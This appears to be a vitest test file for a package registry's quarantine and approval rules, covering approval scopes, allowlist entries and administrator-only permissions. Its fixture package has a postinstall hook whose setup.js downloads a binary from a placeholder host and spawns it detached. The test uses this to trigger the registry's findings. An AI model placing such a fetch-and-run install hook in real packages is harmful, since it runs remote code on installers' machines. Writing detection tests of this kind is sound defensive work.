import { describe, expect, test } from "vitest";
import { openChannel } from "../support/channel.ts";
import { startRegistry, type TestRegistry } from "../support/registry.ts";
import { hookFiles, hookManifest, recordOf, rule } from "../support/review.ts";

/** Held by several findings, none of which proves harm alone. */
async function publishInstaller(registry: TestRegistry, version: string): Promise<number> {
  const files = {
    "setup.js": `// ${version}
const https = require("https");
https.get("https://files.example/bin", (r) => r.pipe(require("fs").createWriteStream("bin")));
require("child_process").spawn("./bin", { detached: true, stdio: "ignore" });
`,
  };
  const manifest = { scripts: { postinstall: "node setup.js" } };
  return (await registry.publish("lib", version, files, { manifest })).status;
}

const approve = async (registry: TestRegistry, more: object) =>
  await rule(registry, "lib@1.0.0", "approve", more);

describe("an approval", () => {
  test("of the bytes alone holds the next version", async () => {
    await using registry = await startRegistry();
    expect(await publishInstaller(registry, "1.0.0")).toBe(403);
    const body = await (await approve(registry, {})).json();
    expect(body).not.toHaveProperty("beyond");
    expect(await publishInstaller(registry, "1.0.1")).toBe(403);
  });

  test("of a range lets versions inside of it pass with a warning, and no other", async () => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    const approved = await approve(registry, { scope: "range", range: "^1.0.0" });
    expect(await approved.json()).toMatchObject({
      state: "approved",
      beyond: { pattern: "lib@^1.0.0", rules: expect.arrayContaining(["EXE-02"]), stillHolds: [] },
    });
    expect(await publishInstaller(registry, "1.4.0")).toBe(201);
    expect(await publishInstaller(registry, "2.0.0")).toBe(403);
    expect((await registry.tarball("lib", "1.4.0")).status).toBe(200);
  });

  test("of findings lets them pass in every version, but nothing new and no proof of harm", async () => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    await approve(registry, { scope: "findings" });
    expect(await publishInstaller(registry, "2.0.0")).toBe(201);
    const worse = await registry.publish("lib", "3.0.0", hookFiles, { manifest: hookManifest });
    expect(worse.status).toBe(403);
  });

  test("says which findings hold the next version again", async () => {
    await using registry = await startRegistry();
    await registry.publish("lib", "1.0.0", hookFiles, { manifest: hookManifest });
    const { beyond } = (await (await approve(registry, { scope: "findings" })).json()) as {
      beyond: { rules: string[]; stillHolds: string[] };
    };
    expect(beyond.stillHolds).toContain("INS-01");
    expect(beyond.rules).not.toContain("INS-01");
    const next = await registry.publish("lib", "1.0.1", hookFiles, { manifest: hookManifest });
    expect(next.status).toBe(403);
  });

  test("makes an entry wider that is there already, and it can be ended there", async () => {
    await using registry = await startRegistry();
    await using listening = registry.listen();
    await using channel = await openChannel(listening, { token: registry.token });
    await channel.ask("addPackageAllowlistEntry", { pattern: "lib", rules: ["TXT-03"] });
    await publishInstaller(registry, "1.0.0");
    const file = "lib-1.0.0.tgz";
    const given = { file, scope: "findings", note: "reads its own binary" };
    const approved = await channel.ask("approveQuarantine", given);
    expect(approved.data).toMatchObject({ success: true, beyond: { pattern: "lib" } });

    const { data } = await channel.ask("getPackageAllowlist");
    const entries = data["entries"] as { id: string; rules: string[] }[];
    expect(entries).toEqual([
      expect.objectContaining({
        description: "approved with 1.0.0: reads its own binary",
        rules: expect.arrayContaining(["TXT-03", "EXE-02"]),
      }),
    ]);
    expect(await publishInstaller(registry, "1.0.1")).toBe(201);
    await channel.ask("removePackageAllowlistEntry", { id: entries[0]?.id });
    expect(await publishInstaller(registry, "1.0.2")).toBe(403);
  });

  test.each([
    ["a range without a scope", { range: "^1.0.0" }],
    ["no range", { scope: "range" }],
    ["what is no range", { scope: "range", range: "not a range!" }],
    ["an unknown scope", { scope: "everything" }],
  ])("with %s changes nothing", async (_, more) => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    expect((await approve(registry, more)).status).toBe(400);
    expect(await recordOf(registry, "lib@1.0.0")).toMatchObject({ state: "held" });
  });

  test("beyond the bytes takes an administrator, and a reviewer's changes nothing", async () => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    const json = { scopes: ["read", "review"] };
    const made = await registry.asOwner("/-/admin/tokens", { method: "POST", json });
    const { secret: token } = (await made.json()) as { secret: string };
    const asked = (more: object) =>
      registry.fetch("/-/admin/quarantine/lib@1.0.0/approve", {
        method: "POST",
        token,
        json: { reason: "x", ...more },
      });
    expect((await asked({ scope: "findings" })).status).toBe(403);
    expect(await recordOf(registry, "lib@1.0.0")).toMatchObject({ state: "held" });
    expect((await asked({})).status).toBe(200);
  });
});
